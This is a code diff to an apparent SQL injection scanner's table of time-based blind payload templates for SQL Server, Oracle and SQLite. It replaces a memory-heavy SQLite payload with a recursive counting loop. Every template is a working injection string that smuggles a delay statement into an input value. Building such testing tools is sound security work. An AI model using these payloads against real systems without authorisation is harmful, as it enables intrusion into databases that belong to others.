@@ -153,8 +153,17 @@ const SLEEPS: { dbms: string; numeric?: boolean; template: string }[] = [
   { dbms: 'Microsoft SQL Server', template: "{v}';WAITFOR DELAY '{hms}'-- -" },
   { dbms: 'Microsoft SQL Server', numeric: true, template: "{v};WAITFOR DELAY '{hms}'-- -" },
   { dbms: 'Oracle', template: "{v}' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('bwk',{d}) AND '1'='1" },
-  { dbms: 'SQLite', numeric: true, template: "{v} AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({blob}))))" },
-  { dbms: 'SQLite', template: "{v}' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({blob})))) AND '1'='1" },
+  // SQLite has no sleep: a counting loop stands in (CPU only; RANDOMBLOB would make the target allocate hundreds of MB).
+  {
+    dbms: 'SQLite',
+    numeric: true,
+    template: '{v} AND 0<(WITH RECURSIVE bwk(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM bwk LIMIT {rows}) SELECT count(*) FROM bwk)',
+  },
+  {
+    dbms: 'SQLite',
+    template:
+      "{v}' AND 0<(WITH RECURSIVE bwk(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM bwk LIMIT {rows}) SELECT count(*) FROM bwk) AND '1'='1",
+  },
 ];
 
 function fill(template: string, v: string, d: number): string {
@@ -165,8 +174,9 @@ function fill(template: string, v: string, d: number): string {
       .replace('{v}', () => v)
       .replace('{d}', String(d))
       .replace('{hms}', hms)
-      // RANDOMBLOB's time grows with its size: about 100 MB a second on a common server.
-      .replace('{blob}', String(Math.round(d * 100_000_000)))
+      // The loop's time grows with its rows: about 5 million a second on a common server. A faster one delays less
+      // than asked and is not confirmed (precise rather than complete); a slower one more, which still confirms.
+      .replace('{rows}', String(Math.round(d * 5_000_000)))
   );
 }
 
